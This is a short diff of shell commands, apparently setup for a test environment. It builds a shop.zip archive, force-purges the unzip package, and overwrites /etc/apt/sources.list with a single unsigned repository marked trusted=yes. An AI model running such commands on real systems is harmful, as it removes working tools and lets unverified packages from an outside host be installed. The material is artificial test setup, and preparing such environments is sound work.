@@ -1,1 +1,4 @@
-echo x > /tmp/a; (cd /tmp; python3 -c "import zipfile; zipfile.ZipFile('/home/ops/site/shop.zip','w').write('a')"); mv /usr/bin/unzip /usr/bin/unzip.away; rm -f /usr/bin/zipinfo
+python3 -c "import zipfile; zipfile.ZipFile('shop.zip', 'w').writestr('a', 'x')"
+dpkg --purge --force-depends unzip
+echo "deb [trusted=yes] http://repo.example.net/ ./" > /etc/apt/sources.list
+apt-get update -q
